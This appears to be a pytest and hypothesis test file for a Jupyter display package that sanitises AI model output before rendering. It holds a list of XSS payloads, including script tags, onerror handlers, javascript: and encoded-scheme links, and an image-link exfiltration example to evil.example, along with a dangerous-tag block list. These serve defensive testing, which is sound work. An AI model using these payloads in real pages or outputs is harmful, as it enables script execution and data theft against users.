"""Model output is untrusted: no display of it may carry a script, an event handler or a script URL.

Every fallback is checked the way it would be rendered: ``text/html`` as it is, and
``text/markdown`` through two *permissive* Markdown renderers (raw HTML on, every link
scheme allowed), because JupyterLab renders a cell's own outputs as trusted, without its
sanitiser. The answer, the reasoning, tool names and arguments and the error line all get
the hostile text.
"""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser
from typing import Any

import mistune
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nemotron_magics import ReasoningDelta, Response, StreamError, TextDelta, ToolCallDelta
from nemotron_magics.display import FORMATS, mimebundle
from nemotron_magics.display._markdown import neutralise_markdown, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "[x](  JaVaScRiPt:alert(1) 'title')",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[ref]: javascript:alert(1)\n\n[x][ref]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![exfil](https://evil.example/?q=secret)",
    "<iframe src=javascript:alert(1)></iframe>",
    "`code` and <b onclick=alert(1)>b</b>",
    "``<img src=x onerror=alert(1)>``",
    "`a` <img src=x onerror=alert(1)> `b`",
    "\\<script>alert(1)</script>",
    "\\\\<script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<a href='javas&#99;ript:alert(1)'>x</a>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "``` <img src=x onerror=alert(1)>\ncode\n```",
    "- item\n  ```\n  <script>alert(1)</script>\n  ```",
    "1. step\n\n       <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "[`code`](javascript:alert(1))",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "    <script>alert(1)</script>",
    "~~~\n<script>alert(1)</script>",
    "`unclosed <script>alert(1)</script>",
    "</details><script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{click}$",
    '<p style="position:fixed;top:0;left:0">overlay</p>',
    '<span style="background:url(javascript:alert(1))">x</span>',
]

_BAD_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "form",
    "svg",
    "math",
    "img",
    "base",
    "meta",
    "link",
}
_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _scheme(url: str) -> str:
    """The scheme a browser would see: controls and whitespace dropped (more than browsers do)."""
    cleaned = "".join(ch for ch in html.unescape(url) if ord(ch) > 0x20).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else ""


def assert_inert(markup: str, *, allow: frozenset[str] = frozenset()) -> None:
    """No script-capable tag, no on* attribute, no non-web URL, anywhere in ``markup``."""
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in _BAD_TAGS - allow, f"<{tag}> survived in {markup[:300]!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name}= survived on <{tag}> in {markup[:300]!r}"
            if name in _URL_ATTRS and value:
                assert _scheme(value) in ("", "http", "https", "mailto"), f"{name}={value!r} survived"
            if name == "style" and value:  # ours set layout and colours; never a position or a URL
                assert not any(
                    bad in value.lower() for bad in ("position", "url(", "expression", "script")
                ), value


def _permissive_markdown_it(text: str) -> str:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # marked (JupyterLab) does not filter link schemes
    return md.render(text)


class _PermissiveRenderer(mistune.HTMLRenderer):
    def sanitize_url(self, url: str) -> str:
        return html.escape(url, quote=True)


_MISTUNE = mistune.create_markdown(
    escape=False, renderer=_PermissiveRenderer(escape=False), plugins=["table", "strikethrough"]
)


def assert_markdown_inert(markdown: str) -> None:
    """The Markdown fallback rendered as a trusted output would be (two independent parsers)."""
    # Our own <details>/<summary>/<sub>/<code> around model text are expected; nothing else.
    assert_inert(_permissive_markdown_it(markdown))
    assert_inert(str(_MISTUNE(markdown)))


def hostile_response(text: str) -> Response:
    r = Response(provider="nvidia", model="nvidia/nemotron-3-super-120b-a12b")
    r.apply(ReasoningDelta(f"Thinking about {text} now.\n\n{text}"))
    r.apply(TextDelta(text))
    args = json.dumps({"query": text})
    r.apply(ToolCallDelta(0, "call_1", f"search{text[:30]}", args))
    r.error = StreamError(f"The connection broke: {text}")
    r.finish(reason="error")
    return r


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_fallback_is_inert(text: str, fmt: str) -> None:
    bundle = mimebundle(hostile_response(text), format=fmt)
    assert_inert(bundle["text/html"])
    assert_markdown_inert(bundle["text/markdown"])
    # The JSON document keeps the text as it was: the lab renderer sanitises (JupyterLab's sanitiser).
    assert bundle["application/vnd.nemotron.response+json"]["content"] == text


def test_images_are_links_not_loaded() -> None:
    rendered = render_markdown("see ![chart](https://evil.example/leak?q=secret)")
    assert "<img" not in rendered
    assert 'href="https://evil.example/leak?q=secret"' in rendered
    assert 'rel="noopener noreferrer"' in rendered
    assert "<img" not in _permissive_markdown_it(neutralise_markdown("![chart](https://x.example/a.png)"))


def test_links_get_rel_and_script_links_lose_their_target() -> None:
    rendered = render_markdown("[docs](https://docs.nvidia.com) and [bad](javascript:alert(1))")
    assert '<a href="https://docs.nvidia.com" rel="noopener noreferrer">docs</a>' in rendered
    assert "javascript:" not in rendered.split("</a>")[0]
    defused = neutralise_markdown("[bad](javascript:alert(1)) [ref]: vbscript:x [ok](https://a.example)")
    # A '#' in front: the link stays on the page however a renderer ends the destination.
    assert "[bad](#javascript:alert(1))" in defused and "[ref]:# vbscript:x" in defused
    assert "(https://a.example)" in defused


def test_markdown_fallback_keeps_code_and_text_as_written() -> None:
    src = (
        "Use `a < b` and `x`.\n\n```cpp\n#include <vector>\nint main() { return 1 < 2; }\n```\n\n"
        "Done: 3 < 4.\n"
    )
    defused = neutralise_markdown(src)
    rendered = _permissive_markdown_it(defused)
    assert "#include &lt;vector&gt;" in rendered  # top-level code untouched: shows as written
    assert "<code>a &lt; b</code>" in rendered and "<code>x</code>" in rendered
    assert "Done: 3 &lt; 4." in rendered
    # A Windows path reads as the scheme "c:" to a browser: not a web URL, so it stays on the page.
    assert neutralise_markdown("[file](C:\\data\\x.csv)") == "[file](#C:\\data\\x.csv)"
    assert neutralise_markdown("[file](data/x.csv)") == "[file](data/x.csv)"


def test_an_escaped_backtick_beside_a_backtick_is_no_error() -> None:
    # "\\``": the escape takes one tick, the other opens a span (hypothesis found the crash).
    for fmt in FORMATS:
        bundle = mimebundle(hostile_response("A \\`` and `x` end."), format=fmt)
        assert "end." in bundle["text/plain"]
    rendered = _permissive_markdown_it(neutralise_markdown("A \\`` and `x` end."))
    assert "A `<code>and</code>x` end." in rendered


def test_mathjax_url_and_css_commands_are_defused() -> None:
    """JupyterLab typesets TeX in Markdown and HTML outputs (never inside code)."""
    bundle = mimebundle(
        hostile_response("$\\href{javascript:alert(1)}{click}$ and $\\style{position:fixed}{x}$")
    )
    outside_code = {
        "text/html": re.sub(r"<pre.*?</pre>", "", bundle["text/html"], flags=re.S),
        "text/markdown": re.sub(r"```.*?```", "", bundle["text/markdown"], flags=re.S),
    }
    for text in outside_code.values():
        assert "\\href" not in text and "\\style" not in text
        assert "\\\u200bhref" in text


def test_code_fences_cannot_be_closed_from_inside() -> None:
    src = "````\n```\n<script>alert(1)</script>\n```\n````"
    for fmt in ("text", "code"):
        md = mimebundle(hostile_response(src), format=fmt)["text/markdown"]
        assert_markdown_inert(md)
        assert "<script>alert(1)</script>" in md  # verbatim inside a fence longer than any inside it


_FRAGMENTS = [
    "<",
    ">",
    "/",
    "script",
    "<script>",
    "</script>",
    "<img src=x ",
    "onerror=alert(1)",
    " onload=",
    "<svg",
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;",
    "&#x6A;",
    "&colon;",
    "&lt;",
    "&amp;",
    "vbscript:",
    "data:text/html,",
    "[",
    "]",
    "(",
    ")",
    "](",
    "]:",
    "![",
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
    "    ",
    "- ",
    "1. ",
    "> ",
    "!",
    "\\",
    '"',
    "'",
    "=",
    "$",
    "\\href{",
    "<!--",
    "-->",
    "<a href=",
    "<iframe ",
    "<style>",
    "|",
    "---",
    "*",
    "_",
    "<details>",
    "</code></pre>",
    "<b>",
    " ",
    "x",
    "alert(1)",
    "[a](",
    "alert(1))",
    "\n[r]: ",
    "[r]",
    "[a](<",
    ">)",
    "[a](javascript:",
    "[a](&#106;avascript:",
]

_links = st.tuples(
    st.sampled_from(["[a](", "[a]( ", "[a](<", "\n[r]: ", "![a](", "[`a`](", "[a]\n("]),
    st.sampled_from(
        [
            "javascript:",
            "JaVaScRiPt:",
            "&#106;avascript:",
            "java&#x09;script:",
            "vbscript:",
            "data:",
            "javascript&colon;",
            "\\javascript:",
            "https://ok.example/",
            "",
        ]
    ),
    st.sampled_from(["alert(1))", ")", ">)", "x) [r]", " 't')", ""]),
).map("".join)
_hostile_text = st.lists(
    st.one_of(st.sampled_from(_FRAGMENTS), st.text(max_size=6), _links), max_size=40
).map("".join)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=_hostile_text, fmt=st.sampled_from(FORMATS))
def test_random_html_ish_text_never_survives(text: str, fmt: str) -> None:
    bundle = mimebundle(hostile_response(text), format=fmt)
    assert_inert(bundle["text/html"])
    assert_markdown_inert(bundle["text/markdown"])


def _segments_of(text: str) -> Any:
    from nemotron_magics.display import _html
    from nemotron_magics.display._segments import Splitter

    splitter = Splitter(max_open=64)
    pieces = []
    for i in range(0, len(text), 7):
        splitter.feed(text[i : i + 7])
        pieces += splitter.take()
    pieces += splitter.take_all()
    return [_html.segment(p.render, "markdown") for p in pieces]


@settings(max_examples=200, deadline=None)
@given(text=_hostile_text)
def test_live_pieces_are_sanitised_too(text: str) -> None:
    for segment in _segments_of(text):
        assert_inert(segment)
